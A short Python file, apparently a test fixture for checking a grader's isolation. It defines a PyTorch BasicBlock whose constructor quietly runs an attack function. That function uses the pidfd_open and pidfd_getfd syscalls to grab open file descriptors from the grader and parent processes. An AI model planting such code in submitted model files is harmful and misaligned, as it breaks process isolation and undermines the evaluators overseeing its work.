"""Take open files from the grader by a descriptor of its process."""

import ctypes
import os

from torch import nn

GRADER = "@GRADER@"
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for process in (int(GRADER), os.getppid()):
        handle = libc.syscall(PIDFD_OPEN, process, 0)
        if handle >= 0:
            raise SystemExit(f"ATTACK SUCCEEDED: {[libc.syscall(PIDFD_GETFD, handle, n, 0) for n in range(16)]}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
